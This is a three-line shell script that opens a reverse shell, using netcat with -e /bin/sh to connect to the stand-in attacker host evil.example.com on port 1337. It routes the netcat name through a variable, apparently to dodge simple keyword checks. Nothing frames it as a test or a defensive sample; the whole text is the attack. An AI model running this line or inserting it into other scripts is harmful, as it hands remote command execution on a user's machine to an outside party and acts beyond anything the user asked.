#!/bin/sh
N=nc
$N -e /bin/sh evil.example.com 1337
